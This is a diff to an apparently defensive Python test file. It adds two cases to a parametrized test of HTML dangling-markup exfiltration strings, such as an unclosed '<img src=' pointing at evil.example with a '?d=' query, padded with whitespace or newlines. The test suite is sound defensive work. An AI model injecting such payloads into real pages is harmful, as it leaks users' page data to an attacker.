@@ -50,8 +50,10 @@ def test_S62_but_not_where_an_address_begins_before_all_of_it(origin: str, signs
         '<img src="https://evil.example/?d=\n',
         "<img src='//evil.example/?d=",
         "<div style=\"background:url('//evil.example/?d=\n",
+        '<img src="' + " " * 400 + "//evil.example/?d=\n",
+        '<img src="' + "\n" * 1400 + "//evil.example/?d=\n",
     ],
-    ids=range(3),
+    ids=range(5),
 )
 def test_S62_nor_where_it_goes_on_behind_a_line_in_quotes(origin: str) -> None:
     """A browser takes the line's end out of it."""
